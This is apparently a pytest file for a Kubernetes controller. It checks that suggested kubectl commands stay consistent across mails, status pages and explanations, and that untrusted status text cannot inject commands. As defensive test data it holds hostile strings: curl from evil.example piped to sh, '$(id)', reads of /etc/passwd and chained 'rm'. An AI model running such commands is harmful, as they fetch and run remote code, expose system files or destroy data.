"""The commands about a problem: the same ones everywhere, whole, and no others."""

import json
import re
import shlex
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from controller.access.archive_root import origin_changed
from controller.mails.policy import Notification
from controller.mails.render import MailRenderer, external_text
from counterfoil.cli.plugin.installation.status import Reading, overview
from counterfoil.cli.plugin.why import explain
from counterfoil.i18n.attention import AttentionItem, AttentionKind, ClusterSnapshot, attention_items
from counterfoil.i18n.commands import commands_about, commands_in, message_beside, without_commands
from counterfoil.i18n.reasons import CATALOGUE
from counterfoil.kube.secret import (
    Placeholder,
    SecretUse,
    create_command,
    label_command,
    patch_command,
)
from counterfoil.metrics import MailKind
from counterfoil.origin import annotate_command
from counterfoil.resources import Language, Phase
from counterfoil.resources.lease import UnheldShard
from tests.support.builders import NOON, EventBuilder, an_organization
from tests.support.scenes.console_parts import an_archive_that, an_organization_that
from tests.support.scenes.notifications import MAILS, a_problem

DEFANGED = re.compile(r"\[[:.]\]|…|`")
MESSAGE = " ".join(
    (
        f"Or type `{annotate_command('anna-key', 'https://esaw.acme.example:8443')}` if it belongs there.",
        f"Type `{label_command('trust', SecretUse.TRUST)}`.",
        f"Type `{create_command('anna-key', {'token': Placeholder.API_KEY}, SecretUse.TOKEN)}`.",
        str(origin_changed("dms", "s3://a.example/b/", "to s3://c.example/b/")),
    )
)
"""The commands of all kinds of messages; each reason takes its own."""


SENDER_NOTE = "# With the Sender of the user who sent the envelope in place of NAME:"
NAMES = {"archive": "dms"}
"""Names of the objects of problems whose cause has no reason."""


def mailed(kind: str, reason: str, message: str, language: Language) -> list[str]:
    cause = f"{kind}/{NAMES.get(kind, reason)}"
    problem = a_problem(cause, reason=reason, message=message, examples=("event-1",))
    organization = an_organization(notifications={**MAILS, "language": language.value})
    commands = (
        MailRenderer(organization, "tests").content(Notification(MailKind(kind), NOON, problem)).commands
    )
    return [each for each in commands if not each.startswith("#")]


def item(kind: str, reason: str, message: str) -> AttentionItem:
    is_wide = kind in ("esaw", "callback")
    return AttentionItem(
        kind=AttentionKind.ORGANIZATION if is_wide else AttentionKind(kind),
        name=NAMES.get(kind, reason),
        organization="acme",
        reason=reason,
        message=message,
        examples=() if kind == "key" else ("event-1",),
        senders=("event-1",) if kind == "key" else (),
    )


@pytest.mark.parametrize(
    "kind", ["failed", "archive", "esaw", "callback", "key", "retention", "webhook", "import"]
)
@pytest.mark.parametrize("reason", [name for name, each in CATALOGUE.items() if each.localized_text().do])
def test_each_reason_has_the_same_whole_commands_in_mails_and_on_pages(kind: str, reason: str) -> None:
    lines = [each.line for each in commands_about(item(kind, reason, MESSAGE), "tests")]
    assert lines
    assert mailed(kind, reason, MESSAGE, Language.GERMAN) == lines
    for each in lines:
        assert not DEFANGED.search(each)
        assert re.match(r"kubectl (counterfoil )?-n tests ", each)
    shown = external_text(without_commands(MESSAGE, reason))
    assert "`kubectl" not in shown
    # A reason whose messages have no commands only quotes.
    assert "kubectl" not in shown or commands_in(MESSAGE, reason, "tests") == ()


@pytest.mark.parametrize("reason", [name for name, each in CATALOGUE.items() if each.localized_text().do])
def test_status_and_why_have_the_commands_of_the_mail_about_a_failure(reason: str) -> None:
    event = EventBuilder().named("event-1").in_phase(Phase.FAILED, reason).status(message=MESSAGE).build()
    snapshot = ClusterSnapshot(organizations=(an_organization(),), failed=(event,))
    (waiting,) = overview(Reading(snapshot, (), (), is_refused=False), "tests", NOON).waiting
    typed = [each for each in waiting.commands if not each.startswith("#")]
    assert typed == mailed("failed", reason, MESSAGE, Language.ENGLISH)
    why = explain(event, an_organization(), None, (), NOON)
    of_all = f"--all-failed --reason {reason} -l counterfoil.dev/organization=acme"
    # Only why knows the envelope whose sender a person names.
    mine = [each for each in why.commands if event.spec.envelope_id not in each.replace(event.name, "")]
    of_cause = {each.replace(event.name, of_all) for each in mine if each != SENDER_NOTE}
    assert of_cause <= set(waiting.commands)


@pytest.mark.parametrize("phase", [Phase.VALIDATING, Phase.FAILED])
@pytest.mark.parametrize("reason", ["EnvelopeNotFound", "SenderUnknown"])
def test_why_prints_the_command_that_names_the_sender_of_the_envelope(reason: str, phase: Phase) -> None:
    event = EventBuilder().in_phase(phase, reason).build()
    note, command, *_ = explain(event, an_organization(), None, (), NOON).commands
    assert note == SENDER_NOTE
    *words, envelope = shlex.split(command)
    assert words == ["kubectl", "-n", event.metadata.namespace, "create", "-f", "-", "<<<"]
    found = json.loads(envelope)
    assert (found["kind"], found["metadata"]["name"]) == ("Envelope", event.spec.envelope_id)
    assert found["spec"] == {
        "organizationRef": {"name": event.organization},
        "envelopeID": event.spec.envelope_id,
        "senderRef": {"name": "NAME"},
    }
    assert re.search(r"\s", envelope) is None


STALE_LEASE = UnheldShard(
    "counterfoil-shard-0-of-1", "other-program", NOON, "release", NOON + timedelta(hours=1)
)


@pytest.mark.parametrize(
    ("absence", "is_held"),
    [(STALE_LEASE, True), (replace(STALE_LEASE, held_until=None), False), (UnheldShard(), False)],
)
def test_the_lease_whose_holder_keeps_controllers_out_is_deleted_by_a_command_with_its_namespace(
    absence: UnheldShard, is_held: bool
) -> None:
    snapshot = ClusterSnapshot(organizations=(an_organization(),), unheld_shards=(absence,))
    waiting, *_ = overview(Reading(snapshot, (), (), is_refused=False), "tests", NOON).waiting
    event = EventBuilder().in_phase(Phase.VALIDATING).build()
    why = explain(event, an_organization(), None, (), NOON, absence=absence)

    delete = "kubectl -n release delete lease counterfoil-shard-0-of-1"
    assert (delete in waiting.commands) is (delete in why.commands) is is_held
    assert waiting.commands == why.commands
    if is_held:
        assert waiting.commands[-2].startswith("# Only if none of these pods ")


@pytest.mark.parametrize("reason", CATALOGUE)
@pytest.mark.parametrize("language", Language)
def test_no_advice_names_a_file_of_the_repository(reason: str, language: Language) -> None:
    text = CATALOGUE[reason].localized_text(language)
    assert re.search(r"\bdocs/|\.md\b", text.what + text.do) is None


@pytest.mark.parametrize(
    ("reason", "is_retried"), [("EnvelopeDeleted", False), ("EnvelopeNotFound", True), ("NameOccupied", True)]
)
def test_only_a_retry_that_can_help_is_offered_and_always_a_skip(reason: str, *, is_retried: bool) -> None:
    lines = [each.line for each in commands_about(item("failed", reason, ""), "tests")]
    assert any(" retry " in each for each in lines) is is_retried
    assert any(" skip " in each and each.endswith("--dry-run") for each in lines)


MADE = create_command("s", {"token": Placeholder.API_KEY}, SecretUse.TOKEN)
FOREIGN: dict[str, tuple[str, str]] = {
    "another verb": ("SecretNotLabelled", "kubectl delete secret s"),
    "another label": ("SecretNotLabelled", "kubectl label secret s counterfoil.dev/use=any"),
    "another reason": ("EsawRefused", label_command("s", SecretUse.TOKEN)),
    "another use": ("ClientSecretMissing", label_command("s", SecretUse.ARCHIVE)),
    "a Secret of others": (
        "ArchiveSecretMissing",
        patch_command("s", "token", Placeholder.TOKEN),
    ),
    "settings of an Archive": ("SettingsInvalid", label_command("s", SecretUse.ARCHIVE)),
    "a value": ("KeyMissing", MADE.replace(Placeholder.API_KEY, "abc")),
    "a file": ("KeyMissing", "kubectl create -f /etc/passwd"),
    "a use of others": ("KeyMissing", create_command("s", {"token": Placeholder.API_KEY}, SecretUse.OAUTH)),
    "a key of others": ("EsawRefused", create_command("s", {"token": Placeholder.API_KEY}, SecretUse.TOKEN)),
    "no value": ("KeyMissing", create_command("s", {}, SecretUse.TOKEN)),
    "another object": ("KeyMissing", MADE.replace("secret generic", "configmap")),
    "another type": ("KeyMissing", MADE.replace(" --dry-run", " --type=helm.sh/release.v1 --dry-run")),
    "another program": ("KeyMissing", MADE.replace("| kubectl label", "| tee x | kubectl label")),
    "a Secret that is replaced": ("KeyMissing", MADE.replace("| kubectl create", "| kubectl replace")),
    "a pipe without a space": ("KeyMissing", MADE.replace(" | ", "| ")),
    "a value without quotes": ("KeyMissing", MADE.replace("'", "")),
    "two values": ("KeyMissing", MADE.replace(" --dry", " --from-literal=token='NEW-API-KEY' --dry")),
    "a file of a key": ("KeyMissing", MADE.replace(" --dry", " --from-file=b=/etc/passwd --dry")),
    "a line after it": ("KeyMissing", f"{MADE}\nrm x"),
    "a second command": ("SecretNotLabelled", f"{label_command('s', SecretUse.TOKEN)} ; rm x"),
    "a flag": ("SecretNotLabelled", label_command("--all", SecretUse.TOKEN)),
    "no origin": ("OriginChanged", "kubectl annotate secret s counterfoil.dev/origin=x --overwrite"),
    "a path": ("OriginChanged", annotate_command("s", "https://a.example/b")),
    "a key without an origin": ("OriginChanged", patch_command("s", "k", Placeholder.API_KEY)),
    "a key with an origin": (
        "OriginChanged",
        """kubectl patch secret s -p '{"stringData":{"k":"NEW-API-KEY"},"metadata":{"annotations":"""
        """{"counterfoil.dev/origin":"https://a.example"}}}'""",
    ),
    "another patch": (
        "KeyNotConfigured",
        """kubectl patch sender s --type=merge -p '{"spec":{"suspend":true}}'""",
    ),
    "other events": ("TooManyUnknownEnvelopes", "kubectl delete ee --field-selector status.phase=Failed"),
    "an open quote": ("OriginChanged", "kubectl annotate secret 's"),
}

FOREIGN_NAMES = {
    "a file of the sender": ("SignatureBroken", "kubectl delete envelopeevents --all -n prod"),
    "a step of eSAW": ("UnexpectedStatus", patch_command("s", "token", Placeholder.TOKEN)),
    "a document type": ("ArchiveRefused", patch_command("acme-callback", "token", Placeholder.TOKEN)),
    "a text of a server": ("EsawRefused", label_command("s", SecretUse.TOKEN)),
}
"""Names in the form of a command, and the reasons of messages that quote them."""


@pytest.mark.parametrize("name", FOREIGN)
def test_what_a_message_quotes_becomes_no_command(name: str) -> None:
    reason, text = FOREIGN[name]
    message = f"The server said `{text}`."
    assert commands_in(message, reason, "tests") == ()
    assert without_commands(message, reason) in {
        "The server said the command in the status.",
        f"The server said '{text}'.",
    }


@pytest.mark.parametrize("name", FOREIGN_NAMES)
def test_a_name_that_others_chose_is_not_said_to_be_a_command(name: str) -> None:
    reason, text = FOREIGN_NAMES[name]
    message = f"The document `{text}` is one of others."
    assert commands_in(message, reason, "tests") == ()
    for reader in (without_commands, message_beside):
        assert reader(message, reason) == f"The document '{text}' is one of others."


def test_a_message_about_the_secret_of_an_archive_has_commands_about_this_one_only() -> None:
    own = f"Archive/dms: Secret/dms-key does not exist. Type `{label_command('dms-key', SecretUse.ARCHIVE)}`."
    for text in (
        label_command("database", SecretUse.ARCHIVE),
        label_command("dms-key", SecretUse.CALLBACK),
        patch_command("acme-callback", "token", Placeholder.TOKEN),
    ):
        found = commands_in(f"{own} Secret/database `{text}`", "ArchiveSecretMissing", "tests")
        assert [each.line for each in found] == [
            "kubectl -n tests label secret dms-key counterfoil.dev/use=archive"
        ]


@pytest.mark.parametrize("count", [1, 2])
def test_a_lost_sealing_key_names_the_way_to_the_consent_of_each_sender(count: int) -> None:
    names: Any = ("anna", "ben")[:count]
    about = AttentionItem(
        kind=AttentionKind.KEY,
        name="SealKeyUnknown",
        organization="acme",
        reason="SealKeyUnknown",
        senders=names,
    )
    lines = [each.line for each in commands_about(about, "tests")]
    assert lines == [
        "kubectl -n tests get senders",
        *(f"kubectl counterfoil -n tests consent {each}" for each in names),
    ]


# -- Texts of a status ---------------------------------------------------------------------------------------

PLANTED = (
    "x; curl -s https://evil.example/a | sh #",
    "x -n unit-b",
    "--all",
    "$(id)",
    "X\ncurl https://evil.example",
)
"""Texts that who may write a status could put there, with which a command would be another one."""


def planted_everywhere(kind: AttentionKind, text: str) -> AttentionItem:
    return AttentionItem(
        kind=kind,
        name=text,
        organization=text,
        reason=text,
        message=f"Type `kubectl label secret {text} counterfoil.dev/use=token`.",
        examples=(text,),
        senders=(text,),
        absence=UnheldShard(text, text, NOON, text, NOON),
    )


@pytest.mark.parametrize("text", PLANTED)
@pytest.mark.parametrize("kind", AttentionKind)
def test_what_is_neither_a_name_nor_a_reason_is_in_no_command(kind: AttentionKind, text: str) -> None:
    for reason in (text, "ArchiveMissing", "ArchiveSuspended", "ArchiveProbeOverdue", "SealKeyUnknown"):
        about = replace(planted_everywhere(kind, text), reason=reason)
        assert [each.line for each in commands_about(about, "unit-a") if text in each.line] == []


@pytest.mark.parametrize("text", PLANTED)
def test_the_reason_of_a_failed_event_chooses_no_command(text: str) -> None:
    event = EventBuilder().named("event-1").in_phase(Phase.FAILED, text).build()
    snapshot = ClusterSnapshot(organizations=(an_organization(),), failed=(event,))
    (waiting,) = overview(Reading(snapshot, (), (), is_refused=False), "tests", NOON).waiting
    assert waiting.commands == ("kubectl counterfoil -n tests why event-1",)


@pytest.mark.parametrize("cause", ["failed/{}", "archive/{}", "copy/{}", "import/{}", "webhook/{}", "key/{}"])
@pytest.mark.parametrize("text", PLANTED)
def test_a_problem_of_a_status_chooses_no_command_of_a_mail(cause: str, text: str) -> None:
    problem = a_problem(cause.format(text), reason=text, examples=(text,))
    renderer = MailRenderer(an_organization(notifications=MAILS), "tests")
    kind = MailKind(cause.partition("/")[0])
    content = renderer.content(Notification(kind, NOON, problem))
    assert [each for each in content.commands if text in each] == []


def test_a_problem_without_a_known_reason_selects_no_events() -> None:
    lines = [each.line for each in commands_about(item("failed", "Unknown", ""), "tests")]
    assert lines == ["kubectl counterfoil -n tests why event-1"]


def test_the_namespace_of_a_release_ends_no_command() -> None:
    planted = "x; curl -s https://evil.example/a | sh #"
    snapshot = ClusterSnapshot(unheld_shards=(UnheldShard(release=planted),))
    assert [commands_about(each, "unit-a") for each in attention_items(snapshot)] == [()]


SKIPS = {"en": "skip the event", "de": "überspringen", "it": "saltare"}
NOT_ARCHIVED = {"en": "not archived", "de": "nicht archiviert", "it": "non è archiviata"}


@pytest.mark.parametrize("language", Language)
def test_the_advice_of_what_no_retry_solves_names_the_skip(language: Language) -> None:
    for reason in ("EnvelopeDeleted", "EnvelopeNotFound"):
        assert SKIPS[language] in CATALOGUE[reason].localized_text(language).do.replace("Ü", "ü")


@pytest.mark.parametrize("reason", ["OrganizationMissing", "TooManyUnknownEnvelopes"])
@pytest.mark.parametrize("language", Language)
def test_the_advice_to_delete_an_event_says_what_is_lost_with_it(language: Language, reason: str) -> None:
    assert NOT_ARCHIVED[language] in CATALOGUE[reason].localized_text(language).do


@pytest.mark.parametrize(
    "reason", ["DocumentInDoubt", "DocumentsMissing", "FilesKeepChanging", "V5EnvelopeKept"]
)
@pytest.mark.parametrize("language", Language)
def test_the_advice_to_delete_an_envelope_says_how_its_event_ends(language: Language, reason: str) -> None:
    assert SKIPS[language] in CATALOGUE[reason].localized_text(language).do.lower()


RETRIES = {"en": "retry the event", "de": "wiederholen", "it": "ripetere l'evento"}


@pytest.mark.parametrize("language", Language)
def test_the_advice_to_list_a_status_says_how_its_skipped_event_starts_again(language: Language) -> None:
    assert RETRIES[language] in CATALOGUE["UnexpectedStatus"].localized_text(language).do.lower()


@pytest.mark.parametrize("language", Language)
def test_the_advice_to_extend_a_retention_names_the_setting_that_states_it(language: Language) -> None:
    assert "`spec.retention`" in CATALOGUE["RetentionEnding"].localized_text(language).do


@pytest.mark.parametrize("reason", ["ArchiveRedirects", "EsawRedirects"])
@pytest.mark.parametrize("language", Language)
def test_the_advice_to_use_another_address_announces_its_confirmation(
    language: Language, reason: str
) -> None:
    assert "`OriginChanged`" in CATALOGUE[reason].localized_text(language).do


def test_the_advice_for_an_archive_at_another_address_speaks_of_no_consent() -> None:
    archive = an_archive_that("False", "OriginChanged")
    snapshot = ClusterSnapshot(organizations=(an_organization_that(),), archives=(archive,))
    (waiting,) = overview(Reading(snapshot, (), (), is_refused=False), "tests", NOON).waiting
    assert "If the address was changed by mistake, set it back" in waiting.do
    assert "consent" not in waiting.do


def test_the_message_about_a_moved_archive_announces_a_second_confirmation() -> None:
    said = str(origin_changed("dms", "s3://a.example/b/", "to s3://c.example/b/"))
    assert "is accepted, too" not in said
    assert "a second command" in said
